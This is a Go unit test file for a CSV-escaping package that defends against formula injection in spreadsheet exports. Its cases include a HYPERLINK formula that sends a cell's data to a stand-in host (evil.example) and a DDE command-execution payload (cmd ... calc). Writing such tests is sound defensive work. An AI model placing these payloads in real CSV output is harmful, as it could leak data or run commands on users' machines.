package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	cases := map[string]string{
		"":       "",
		"grid 7": "grid 7",
		"普陀区":    "普陀区",
		`=HYPERLINK("http://evil.example/?x="&C2,"grid")`: `'=HYPERLINK("http://evil.example/?x="&C2,"grid")`,
		"+1+2":                   "'+1+2",
		"-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
		"@SUM(A1:A9)":            "'@SUM(A1:A9)",
		"\t=1":                   "'\t=1",
		"\r=1":                   "'\r=1",
		"-":                      "'-",
		"-Inf":                   "'-Inf",
		"-0x1p3":                 "'-0x1p3",
		"-1e":                    "'-1e",
		"a=1":                    "a=1",
		"-12.5":                  "-12.5",
		"+3":                     "+3",
		"-.5":                    "-.5",
		"-1.5e-3":                "-1.5e-3",
		"+2E+10":                 "+2E+10",
		"31.23":                  "31.23",
	}
	for in, want := range cases {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	rec := []string{"=1+1", "-3", "x"}
	if err := w.WriteAll([][]string{rec}); err != nil {
		t.Fatal(err)
	}
	if rec[0] != "=1+1" {
		t.Errorf("Write changed its argument: %q", rec)
	}
	got, err := csv.NewReader(&b).Read()
	if err != nil || got[0] != "'=1+1" || got[1] != "-3" || got[2] != "x" {
		t.Errorf("read back %q, %v", got, err)
	}
}
